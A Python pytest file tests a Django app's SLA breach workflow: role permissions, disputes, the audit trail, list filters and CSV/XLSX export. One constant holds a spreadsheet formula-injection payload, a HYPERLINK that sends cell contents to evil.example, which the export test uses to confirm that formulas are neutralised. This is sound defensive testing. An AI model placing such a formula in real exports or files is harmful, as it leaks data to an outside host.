"""The breach workflow on both sides: every step allowed or refused per role, double submits, the
thread and the audit trail; the breach list (filters, scoping, query budget) and its export."""

import csv
import io
import threading
from datetime import timedelta

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from accounts.models import AuditEvent
from kpis import services
from kpis.models import (
    Breach,
    BreachKind,
    BreachNote,
    BreachNoteKind,
    BreachSeverity,
    BreachStatus,
    Dispute,
    DisputeStatus,
    ServiceLevel,
    ServiceLevelKind,
)
from tests import factories

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def breach_a(portfolio):
    return factories.BreachFactory(service_level=portfolio.a.service_level)


@pytest.fixture
def breach_b(portfolio):
    return factories.BreachFactory(service_level=portfolio.b.service_level)


def due_in(days=14):
    return timezone.localdate() + timedelta(days=days)


def respond(breach, actor, **overrides):
    data = {
        "root_cause": "A failed storage controller.",
        "corrective_action": "Replace the controller and add monitoring.",
        "action_due_on": due_in(),
    }
    return services.breach_respond(breach=breach, actor=actor, **{**data, **overrides})


def notes(breach) -> list[str]:
    return list(
        BreachNote.objects.filter(breach=breach).order_by("created_at", "id").values_list("kind", flat=True)
    )


def audit_actions(obj) -> list[str]:
    events = AuditEvent.objects.filter(object_type=obj._meta.label_lower, object_id=str(obj.pk))
    return list(events.order_by("id").values_list("action", flat=True))


def status_of(breach) -> str:
    return Breach.objects.values_list("status", flat=True).get(pk=breach.pk)


# ---- The workflow through the services --------------------------------------------------------------


def test_a_breach_goes_from_response_to_acceptance_with_a_thread_and_a_trail(
    breach_a, vendor_a_user, manager
):
    services.breach_acknowledge(breach=breach_a, actor=vendor_a_user, note="Looking into it.")
    assert status_of(breach_a) == BreachStatus.ACKNOWLEDGED
    acknowledged_at = Breach.objects.get(pk=breach_a.pk).acknowledged_at

    respond(breach_a, vendor_a_user, root_cause="A bad patch.")
    breach = Breach.objects.get(pk=breach_a.pk)
    assert breach.status == BreachStatus.ACTION_PLANNED
    assert (breach.root_cause, breach.responded_by, breach.action_due_on) == (
        "A bad patch.",
        vendor_a_user,
        due_in(),
    )
    assert breach.acknowledged_at == acknowledged_at  # the first acknowledgement stands

    services.breach_request_more(breach=breach, actor=manager, message="Which patch? Add the change number.")
    assert status_of(breach) == BreachStatus.ACKNOWLEDGED
    respond(breach, vendor_a_user, root_cause="Patch KB123 (change CHG-9).")
    services.breach_accept_response(breach=breach, actor=manager, note="Thanks, agreed.")

    breach.refresh_from_db()
    assert breach.status == BreachStatus.RESOLVED
    assert breach.closed_by == manager and breach.closed_at and breach.response_accepted_at
    assert breach.root_cause == "Patch KB123 (change CHG-9)."
    assert notes(breach) == [
        BreachNoteKind.ACKNOWLEDGEMENT,
        BreachNoteKind.RESPONSE,
        BreachNoteKind.MORE_INFO_REQUESTED,
        BreachNoteKind.RESPONSE,
        BreachNoteKind.RESPONSE_ACCEPTED,
    ]
    thread = list(BreachNote.objects.filter(breach=breach).order_by("id"))
    assert thread[0].author == vendor_a_user and thread[0].body == "Looking into it."
    assert thread[2].author == manager and "change number" in thread[2].body
    assert audit_actions(breach) == [
        "kpis.breach.acknowledged",
        "kpis.breach.responded",
        "kpis.breach.more_info_requested",
        "kpis.breach.responded",
        "kpis.breach.response_accepted",
    ]
    accepted = AuditEvent.objects.filter(action="kpis.breach.response_accepted").get()
    assert accepted.actor == manager
    assert accepted.changes["status"] == ["action_planned", "resolved"]
    assert accepted.vendor_id == breach.service_level.contract.vendor_id


def test_waiving_needs_a_reason_and_records_it(breach_a, manager):
    with pytest.raises(ValidationError) as error:
        services.breach_waive(breach=breach_a, actor=manager, reason="  ")
    assert "reason" in error.value.message_dict
    assert status_of(breach_a) == BreachStatus.OPEN

    services.breach_waive(breach=breach_a, actor=manager, reason="Power cut at the client's data centre.")

    breach = Breach.objects.get(pk=breach_a.pk)
    assert (breach.status, breach.closure_reason) == (
        BreachStatus.WAIVED,
        "Power cut at the client's data centre.",
    )
    assert notes(breach) == [BreachNoteKind.WAIVED]
    event = AuditEvent.objects.get(action="kpis.breach.waived")
    assert event.note == "Power cut at the client's data centre."
    assert event.changes["status"] == ["open", "waived"]


def test_closing_needs_a_note(breach_a, manager):
    with pytest.raises(ValidationError):
        services.breach_close(breach=breach_a, actor=manager, note="")
    services.breach_close(breach=breach_a, actor=manager, note="Fixed by the upgrade in May.")
    assert status_of(breach_a) == BreachStatus.RESOLVED
    assert audit_actions(breach_a) == ["kpis.breach.closed"]


def test_a_response_cannot_promise_a_date_in_the_past(breach_a, vendor_a_user):
    with pytest.raises(ValidationError) as error:
        respond(breach_a, vendor_a_user, action_due_on=timezone.localdate() - timedelta(days=1))
    assert "action_due_on" in error.value.message_dict
    assert status_of(breach_a) == BreachStatus.OPEN and notes(breach_a) == []


@pytest.mark.parametrize(
    ("status", "step", "call"),
    [
        (
            BreachStatus.ACTION_PLANNED,
            "acknowledge",
            lambda b, v, m: services.breach_acknowledge(breach=b, actor=v),
        ),
        (BreachStatus.RESOLVED, "respond", lambda b, v, m: respond(b, v)),
        (
            BreachStatus.WAIVED,
            "dispute",
            lambda b, v, m: services.breach_dispute(breach=b, actor=v, reason="x"),
        ),
        (
            BreachStatus.OPEN,
            "request more",
            lambda b, v, m: services.breach_request_more(breach=b, actor=m, message="x"),
        ),
        (
            BreachStatus.ACKNOWLEDGED,
            "accept",
            lambda b, v, m: services.breach_accept_response(breach=b, actor=m),
        ),
        (
            BreachStatus.RESOLVED,
            "waive",
            lambda b, v, m: services.breach_waive(breach=b, actor=m, reason="x"),
        ),
        (BreachStatus.CLEARED, "close", lambda b, v, m: services.breach_close(breach=b, actor=m, note="x")),
    ],
)
def test_steps_out_of_order_are_refused_with_a_clear_message(
    portfolio, vendor_a_user, manager, status, step, call
):
    closed = status not in (BreachStatus.OPEN, BreachStatus.ACKNOWLEDGED, BreachStatus.ACTION_PLANNED)
    breach = factories.BreachFactory(
        service_level=portfolio.a.service_level, status=status, closed_at=timezone.now() if closed else None
    )
    with pytest.raises(ValidationError) as error:
        call(breach, vendor_a_user, manager)
    assert f"This breach is {BreachStatus(status).label.lower()}" in error.value.messages[0]
    assert status_of(breach) == status
    assert notes(breach) == [] and audit_actions(breach) == []


# Which roles may take which step (given a breach in a status the step starts from).
VENDOR_STEP_ROLES = {"vendor_a_user": True, "vendor_a_admin": True}
CLIENT_STEP_ROLES = {"manager": True, "admin_user": True}
ROLES = ["manager", "admin_user", "viewer", "auditor", "vendor_a_user", "vendor_a_admin", "vendor_b_user"]
STEPS = {
    "acknowledge": (BreachStatus.OPEN, VENDOR_STEP_ROLES),
    "respond": (BreachStatus.OPEN, VENDOR_STEP_ROLES),
    "dispute": (BreachStatus.OPEN, VENDOR_STEP_ROLES),
    "request_more": (BreachStatus.ACTION_PLANNED, CLIENT_STEP_ROLES),
    "accept_response": (BreachStatus.ACTION_PLANNED, CLIENT_STEP_ROLES),
    "waive": (BreachStatus.OPEN, CLIENT_STEP_ROLES),
    "close": (BreachStatus.OPEN, CLIENT_STEP_ROLES),
    "resolve_dispute": (BreachStatus.OPEN, CLIENT_STEP_ROLES),
    "comment": (BreachStatus.OPEN, {**VENDOR_STEP_ROLES, **CLIENT_STEP_ROLES}),
}


def take(step, breach, actor):
    text = "Because."
    if step == "acknowledge":
        return services.breach_acknowledge(breach=breach, actor=actor)
    if step == "respond":
        return respond(breach, actor)
    if step == "dispute":
        return services.breach_dispute(breach=breach, actor=actor, reason=text)
    if step == "request_more":
        return services.breach_request_more(breach=breach, actor=actor, message=text)
    if step == "accept_response":
        return services.breach_accept_response(breach=breach, actor=actor)
    if step == "waive":
        return services.breach_waive(breach=breach, actor=actor, reason=text)
    if step == "close":
        return services.breach_close(breach=breach, actor=actor, note=text)
    if step == "resolve_dispute":
        dispute = Dispute.objects.get(breach=breach, status=DisputeStatus.OPEN)
        return services.dispute_resolve(dispute=dispute, actor=actor, upheld=False, resolution=text)
    return services.breach_comment(breach=breach, actor=actor, body=text)


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("step", list(STEPS))
def test_each_step_is_allowed_or_refused_by_role(request, portfolio, step, role):
    status, allowed_roles = STEPS[step]
    breach = factories.BreachFactory(service_level=portfolio.a.service_level, status=status)
    if step == "resolve_dispute":
        Dispute.objects.create(breach=breach, vendor=portfolio.a.vendor, reason="The figure is wrong.")
    actor = request.getfixturevalue(role)
    before = (notes(breach), audit_actions(breach))

    if allowed_roles.get(role):
        take(step, breach, actor)
        assert len(notes(breach)) == len(before[0]) + 1
        assert AuditEvent.objects.filter(actor=actor).exists()
    else:
        with pytest.raises(PermissionDenied):
            take(step, breach, actor)
        assert (notes(breach), audit_actions(breach), status_of(breach)) == (*before, status)

    may = services.breach_allowed_steps(breach=breach, actor=actor, has_open_dispute=False)
    if not allowed_roles.get(role):
        assert step not in may


def test_a_double_submit_applies_once(breach_a, vendor_a_user, manager):
    services.breach_acknowledge(breach=breach_a, actor=vendor_a_user)
    with pytest.raises(ValidationError, match="already acknowledged|is acknowledged"):
        services.breach_acknowledge(breach=breach_a, actor=vendor_a_user)
    services.breach_waive(breach=breach_a, actor=manager, reason="Agreed exception.")
    with pytest.raises(ValidationError, match="is waived"):
        services.breach_waive(breach=breach_a, actor=manager, reason="Agreed exception.")
    assert notes(breach_a) == [BreachNoteKind.ACKNOWLEDGEMENT, BreachNoteKind.WAIVED]
    assert audit_actions(breach_a) == ["kpis.breach.acknowledged", "kpis.breach.waived"]


def test_a_stale_breach_object_cannot_apply_a_step_twice(breach_a, manager):
    # Two requests loaded the same open breach; the second one's update finds it already waived.
    first, second = Breach.objects.get(pk=breach_a.pk), Breach.objects.get(pk=breach_a.pk)
    services.breach_waive(breach=first, actor=manager, reason="One.")
    with pytest.raises(ValidationError):
        services.breach_close(breach=second, actor=manager, note="Two.")
    assert status_of(breach_a) == BreachStatus.WAIVED
    assert notes(breach_a) == [BreachNoteKind.WAIVED]


# ---- Disputes ---------------------------------------------------------------------------------------


def test_a_rejected_dispute_leaves_the_breach_open_and_an_upheld_one_waives_it(
    breach_a, vendor_a_user, manager
):
    first = services.breach_dispute(breach=breach_a, actor=vendor_a_user, reason="The monitoring was down.")
    assert (first.status, first.vendor_id, first.raised_by) == (
        DisputeStatus.OPEN,
        breach_a.service_level.contract.vendor_id,
        vendor_a_user,
    )
    with pytest.raises(ValidationError, match="already disputed"):
        services.breach_dispute(breach=breach_a, actor=vendor_a_user, reason="Again.")
    # Accepting or closing around an open dispute is refused: the dispute is decided first.
    with pytest.raises(ValidationError, match="resolve the dispute"):
        services.breach_close(breach=breach_a, actor=manager, note="Done.")

    services.dispute_resolve(
        dispute=first, actor=manager, upheld=False, resolution="Our own probes saw the outage."
    )
    first.refresh_from_db()
    assert (first.status, first.resolved_by, first.resolution) == (
        DisputeStatus.REJECTED,
        manager,
        "Our own probes saw the outage.",
    )
    assert status_of(breach_a) == BreachStatus.OPEN
    with pytest.raises(ValidationError, match="already been decided"):
        services.dispute_resolve(dispute=first, actor=manager, upheld=True, resolution="Changed my mind.")

    second = services.breach_dispute(breach=breach_a, actor=vendor_a_user, reason="Here are the probe logs.")
    services.dispute_resolve(
        dispute=second, actor=manager, upheld=True, resolution="The logs show a probe fault."
    )

    breach = Breach.objects.get(pk=breach_a.pk)
    assert (breach.status, breach.closure_reason) == (BreachStatus.WAIVED, "The logs show a probe fault.")
    assert notes(breach) == [
        BreachNoteKind.DISPUTE,
        BreachNoteKind.DISPUTE_RESOLVED,
        BreachNoteKind.DISPUTE,
        BreachNoteKind.DISPUTE_RESOLVED,
        BreachNoteKind.WAIVED,
    ]
    assert audit_actions(first) == ["kpis.dispute.created", "kpis.dispute.resolved"]
    assert audit_actions(second) == ["kpis.dispute.created", "kpis.dispute.resolved"]
    assert audit_actions(breach) == ["kpis.breach.waived"]


def test_a_dispute_of_a_figure_is_resolved_without_touching_breaches(portfolio, manager):
    dispute = Dispute.objects.create(
        measurement=portfolio.a.measurement, vendor=portfolio.a.vendor, reason="Wrong day."
    )
    services.dispute_resolve(dispute=dispute, actor=manager, upheld=True, resolution="Corrected.")
    dispute.refresh_from_db()
    assert dispute.status == DisputeStatus.UPHELD
    assert not BreachNote.objects.exists()


@pytest.mark.parametrize("role", ["viewer", "auditor", "vendor_a_user"])
def test_only_the_client_side_resolves_disputes(request, breach_a, vendor_a_user, role):
    dispute = services.breach_dispute(breach=breach_a, actor=vendor_a_user, reason="Wrong.")
    with pytest.raises(PermissionDenied):
        services.dispute_resolve(
            dispute=dispute, actor=request.getfixturevalue(role), upheld=True, resolution="x"
        )
    assert Dispute.objects.get(pk=dispute.pk).status == DisputeStatus.OPEN


# ---- The breach page and its forms ------------------------------------------------------------------


def step_url(breach, step):
    return reverse(f"breaches:{step}", kwargs={"pk": breach.pk})


def test_vendor_b_gets_404_on_vendor_a_breach(client_for, breach_a, vendor_b_user):
    client = client_for(vendor_b_user)
    assert client.get(reverse("breaches:detail", kwargs={"pk": breach_a.pk})).status_code == 404
    assert client.post(step_url(breach_a, "acknowledge")).status_code == 404
    assert client.post(step_url(breach_a, "comment"), {"body": "Hello"}).status_code == 404
    assert status_of(breach_a) == BreachStatus.OPEN and notes(breach_a) == []


@pytest.mark.parametrize("role", ["viewer", "auditor"])
def test_viewers_and_auditors_read_the_case_but_get_no_forms(request, client_for, breach_a, role):
    client = client_for(request.getfixturevalue(role))
    page = client.get(reverse("breaches:detail", kwargs={"pk": breach_a.pk}))
    assert page.status_code == 200
    html = page.content.decode()
    assert "Service availability" in html and "Thread" in html
    assert 'method="post" action="/breaches/' not in html
    for step in ("waive", "acknowledge", "comment"):
        assert client.post(step_url(breach_a, step), {"reason": "x", "body": "x"}).status_code == 403
    assert status_of(breach_a) == BreachStatus.OPEN and notes(breach_a) == []


def test_each_side_sees_its_own_forms(client_for, breach_a, manager, vendor_a_user):
    ServiceLevel.objects.filter(pk=breach_a.service_level_id).update(kind=ServiceLevelKind.CSL)
    factories.ServiceLevelResultFactory(
        service_level=breach_a.service_level, period_charge="87654.00", credit_amount="4321.09"
    )
    url = reverse("breaches:detail", kwargs={"pk": breach_a.pk})
    manager_page = client_for(manager).get(url).content.decode()
    vendor_page = client_for(vendor_a_user).get(url).content.decode()
    for step in ("waive", "close", "comment"):
        assert f'action="{step_url(breach_a, step)}"' in manager_page
    for step in ("acknowledge", "respond", "dispute"):
        assert f'action="{step_url(breach_a, step)}"' not in manager_page
        assert f'action="{step_url(breach_a, step)}"' in vendor_page
    assert f'action="{step_url(breach_a, "waive")}"' not in vendor_page
    assert "4,321.09" in manager_page and "Service credit" in manager_page
    assert "4,321.09" not in vendor_page and "Service credit" not in vendor_page
    assert "97.2%" in vendor_page  # the same attained figure on both sides


def test_waiving_from_the_page_redirects_with_a_message_and_a_second_submit_is_refused(
    client_for, breach_a, manager
):
    client = client_for(manager)
    response = client.post(step_url(breach_a, "waive"), {"reason": "Client-side outage."}, follow=True)
    assert response.redirect_chain == [(reverse("breaches:detail", kwargs={"pk": breach_a.pk}), 302)]
    html = response.content.decode()
    assert "Breach waived." in html and "Client-side outage." in html
    assert status_of(breach_a) == BreachStatus.WAIVED

    again = client.post(step_url(breach_a, "waive"), {"reason": "Client-side outage."}, follow=True)
    assert "cannot be waived now" in again.content.decode()
    assert notes(breach_a) == [BreachNoteKind.WAIVED]
    assert audit_actions(breach_a) == ["kpis.breach.waived"]


def test_a_form_error_is_shown_beside_the_field(client_for, breach_a, manager):
    response = client_for(manager).post(step_url(breach_a, "waive"), {"reason": ""})
    assert response.status_code == 200
    html = response.content.decode()
    assert "field--error" in html and "This field is required." in html
    assert status_of(breach_a) == BreachStatus.OPEN


def test_with_htmx_the_case_redraws_in_place(client_for, breach_a, vendor_a_user):
    client = client_for(vendor_a_user)
    response = client.post(
        step_url(breach_a, "acknowledge"),
        {"note": "On it."},
        HTTP_HX_REQUEST="true",
        HTTP_HX_TARGET="breach-case",
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "<html" not in html and 'id="breach-case"' in html
    assert "Breach acknowledged." in html and "On it." in html
    assert f'action="{step_url(breach_a, "acknowledge")}"' not in html  # already taken
    assert f'action="{step_url(breach_a, "respond")}"' in html


def test_the_vendor_responds_with_evidence(client_for, breach_a, vendor_a_user, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    upload = io.BytesIO(b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n")
    upload.name = "rca.pdf"
    response = client_for(vendor_a_user).post(
        step_url(breach_a, "respond"),
        {
            "root_cause": "Disk failure.",
            "corrective_action": "Replace disks.",
            "action_due_on": due_in().isoformat(),
            "evidence": upload,
        },
    )
    assert response.status_code == 302
    breach = Breach.objects.get(pk=breach_a.pk)
    assert breach.status == BreachStatus.ACTION_PLANNED
    assert list(breach.evidence.values_list("original_name", flat=True)) == ["rca.pdf"]


def test_state_changes_need_the_csrf_token(breach_a, manager):
    client = Client(enforce_csrf_checks=True)
    client.force_login(manager)
    assert client.post(step_url(breach_a, "waive"), {"reason": "x"}).status_code == 403
    assert client.get(step_url(breach_a, "waive")).status_code == 405
    assert status_of(breach_a) == BreachStatus.OPEN


# ---- The list ---------------------------------------------------------------------------------------


def list_html(client, **params) -> str:
    response = client.get(reverse("breaches:list"), params)
    assert response.status_code == 200
    return response.content.decode()


def make_breaches(service_level, count, **kwargs):
    start = service_level.effective_from
    made = []
    for n in range(count):
        month = start.replace(
            year=start.year + (start.month - 1 + n) // 12, month=(start.month - 1 + n) % 12 + 1
        )
        made.append(
            factories.BreachFactory(
                service_level=service_level,
                period_start=month,
                period_end=month + timedelta(days=27),
                **kwargs,
            )
        )
    return made


def test_the_list_shows_open_breaches_by_default_and_filters(client_for, portfolio, manager):
    now = timezone.now()
    sl_a, sl_b = portfolio.a.service_level, portfolio.b.service_level
    fresh = factories.BreachFactory(
        service_level=sl_a,
        period_start=sl_a.effective_from,
        period_end=sl_a.effective_from + timedelta(days=30),
        opened_at=now - timedelta(days=2),
        severity=BreachSeverity.HIGH,
    )
    old = factories.BreachFactory(
        service_level=sl_b,
        opened_at=now - timedelta(days=40),
        kind=BreachKind.NOT_REPORTED,
        severity=BreachSeverity.LOW,
    )
    closed = factories.BreachFactory(
        service_level=sl_b,
        period_start=sl_b.effective_from,
        status=BreachStatus.RESOLVED,
        closed_at=now,
        opened_at=now - timedelta(days=10),
    )
    client = client_for(manager)

    def shown(**params):
        html = list_html(client, **params)
        return {b.pk for b in (fresh, old, closed) if reverse("breaches:detail", kwargs={"pk": b.pk}) in html}

    assert shown() == {fresh.pk, old.pk}
    assert shown(status="all") == {fresh.pk, old.pk, closed.pk}
    assert shown(status="closed") == {closed.pk}
    assert shown(status="resolved") == {closed.pk}
    assert shown(severity="high") == {fresh.pk}
    assert shown(kind="not_reported") == {old.pk}
    assert shown(vendor=portfolio.b.vendor.pk) == {old.pk}
    assert shown(age="0-7") == {fresh.pk}
    assert shown(age="8-30", status="all") == {closed.pk}
    assert shown(age="31+") == {old.pk}
    assert shown(period_from=fresh.period_end.isoformat(), period_to=fresh.period_end.isoformat()) == {
        fresh.pk
    }
    # Nonsense in the query string filters nothing instead of failing.
    assert shown(age="forever", vendor="abc", sort="sideways") == {fresh.pk, old.pk}


def test_vendor_users_list_only_their_own_breaches(client_for, breach_a, breach_b, vendor_a_user):
    html = list_html(client_for(vendor_a_user), status="all")
    assert reverse("breaches:detail", kwargs={"pk": breach_a.pk}) in html
    assert reverse("breaches:detail", kwargs={"pk": breach_b.pk}) not in html
    assert "Globex" not in html and 'name="vendor"' not in html


def test_htmx_filtering_returns_only_the_results(client_for, breach_a, manager):
    response = client_for(manager).get(
        reverse("breaches:list"),
        {"severity": "medium"},
        HTTP_HX_REQUEST="true",
        HTTP_HX_TARGET="breach-results",
    )
    html = response.content.decode()
    assert "<html" not in html and 'id="breach-results"' in html
    assert reverse("breaches:detail", kwargs={"pk": breach_a.pk}) in html


def test_the_list_is_sorted_and_paged(client_for, portfolio, manager):
    made = make_breaches(portfolio.a.service_level, 27)
    client = client_for(manager)
    html = list_html(client, sort="-period")
    assert "Page 1 of 2" in html
    newest, oldest = made[-1], made[0]
    assert reverse("breaches:detail", kwargs={"pk": newest.pk}) in html
    assert reverse("breaches:detail", kwargs={"pk": oldest.pk}) not in html
    assert reverse("breaches:detail", kwargs={"pk": oldest.pk}) in list_html(client, sort="-period", page=2)


@pytest.mark.parametrize("user_fixture", ["manager", "vendor_a_user"])
def test_the_list_runs_the_same_queries_whatever_the_number_of_breaches(
    request, client_for, portfolio, user_fixture
):
    client = client_for(request.getfixturevalue(user_fixture))

    def count_queries():
        with CaptureQueriesContext(connection) as queries:
            list_html(client)
        return len(queries)

    make_breaches(portfolio.a.service_level, 2)
    small = count_queries()
    extra = factories.ServiceLevelFactory(contract=portfolio.a.sow)
    make_breaches(extra, 20, severity=BreachSeverity.HIGH)
    assert count_queries() == small


# ---- Export -----------------------------------------------------------------------------------------


def test_the_export_neutralises_formulas_in_csv_and_xlsx(client_for, breach_a, vendor_a_user, breach_b):
    Breach.objects.filter(pk=breach_a.pk).update(
        root_cause=EVIL, corrective_action="@SUM(A1:A9)", status=BreachStatus.ACTION_PLANNED
    )
    client = client_for(vendor_a_user)

    response = client.get(reverse("breaches:export"), {"format": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment;" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert len(body) == 1  # vendor B's breach is not in vendor A's export
    row = dict(zip(header, body[0], strict=True))
    assert row["Root cause"] == "'" + EVIL
    assert row["Corrective action"] == "'@SUM(A1:A9)"
    assert row["Vendor"] == breach_a.service_level.contract.vendor.name

    response = client.get(reverse("breaches:export"), {"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert cells["Root cause"].value == "'" + EVIL and cells["Root cause"].data_type == "s"
    assert cells["Period start"].is_date
    assert sheet.max_row == 2


def test_an_unknown_export_format_is_a_400(client_for, manager):
    assert client_for(manager).get(reverse("breaches:export"), {"format": "pdf"}).status_code == 400


@pytest.mark.postgres
@pytest.mark.skipif(
    connection.vendor != "postgresql", reason="Concurrent submits need PostgreSQL (DATABASE_URL)."
)
@pytest.mark.django_db(transaction=True)
def test_concurrent_identical_submits_apply_once(portfolio, vendor_a_user, manager):
    breach = factories.BreachFactory(service_level=portfolio.a.service_level)
    barrier = threading.Barrier(4)
    outcomes = []

    def submit(step):
        try:
            barrier.wait(timeout=30)
            step()
            outcomes.append("applied")
        except ValidationError:
            outcomes.append("refused")
        finally:
            connection.close()

    steps = [
        lambda: services.breach_dispute(
            breach=Breach.objects.get(pk=breach.pk), actor=vendor_a_user, reason="No."
        )
    ] * 2
    steps += [
        lambda: services.breach_acknowledge(breach=Breach.objects.get(pk=breach.pk), actor=vendor_a_user)
    ] * 2
    threads = [threading.Thread(target=submit, args=(step,)) for step in steps]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)

    assert sorted(outcomes) == ["applied", "applied", "refused", "refused"]
    assert Dispute.objects.filter(breach=breach).count() == 1
    assert sorted(notes(breach)) == sorted([BreachNoteKind.DISPUTE, BreachNoteKind.ACKNOWLEDGEMENT])
    assert audit_actions(breach) == ["kpis.breach.acknowledged"]
